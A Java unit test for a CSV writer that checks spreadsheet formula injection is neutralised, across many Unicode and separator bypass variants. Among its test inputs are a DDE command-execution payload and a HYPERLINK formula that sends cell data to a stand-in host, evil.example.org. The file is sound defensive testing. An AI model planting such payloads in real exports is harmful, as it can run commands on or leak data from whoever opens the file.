package io.guildhall.kernel.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever opens an export in a spreadsheet calculates nothing that somebody else wrote, whatever separator the spreadsheet is set to. */
class CsvInjectionTest {
    /** What a spreadsheet may take for the beginning of a cell, with what it skips there. */
    private static final Pattern CALCULATES =
            Pattern.compile("^[\\p{Z}\\p{Cf}\"]*[=+@\\-\uFF1D\uFF0B\uFF20\uFF0D\u2212\t\r]");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\tplain",
                "\rplain",
                "  =1",
                "\u00A0=1",
                "\u200B=1",
                "\uFEFF=1",
                "\"=1",
                "'=1",
                "\uFF1D1",
                "\uFF0B1",
                "\uFF20SUM(A1)",
                "\uFF0D1",
                "\u22121",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://evil.example.org?\"&A1,\"Ana\")",
                "Ana;=1+1",
                "Ana; \t =1+1",
                "Ana\t=1",
                "Ana\n=1",
                "Ana\r\n+1",
                "Ana\",\"=1",
                "Ana\";\"=1",
            })
    void a_formula_becomes_text(String attack) throws IOException {
        String file = written(attack, "next");

        List<String> cells = ReadCsv.lines(file).get(0);

        assertThat(cells).hasSize(2);
        assertThat(cells.get(0).replace("'", "")).isEqualTo(attack.replace("'", ""));
        assertThat(Arrays.stream(file.substring(1).split("[;\t\r\n]")))
                .allSatisfy(cell ->
                        assertThat(CALCULATES.matcher(cell).find()).as(cell).isFalse());
        assertThat(CALCULATES.matcher(cells.get(0)).find()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Ana",
                "Ana-Lena O'Neill",
                "1 = 1",
                "Größe, \"in Zeilen\"\nund noch eine",
                "حسن",
                "🦊 & Söhne; GmbH",
                "a,b;c",
            })
    void everything_else_stays_as_it_is(String text) throws IOException {
        assertThat(ReadCsv.lines(written("first", text))).containsExactly(List.of("first", text));
    }

    @Test
    void a_spreadsheet_can_tell_that_it_is_utf_8() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CsvWriter(out);

        assertThat(out.toByteArray()).containsExactly(0xEF, 0xBB, 0xBF);
    }

    private static String written(String... cells) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CsvWriter(out).line(List.of(cells));
        return out.toString(StandardCharsets.UTF_8);
    }
}
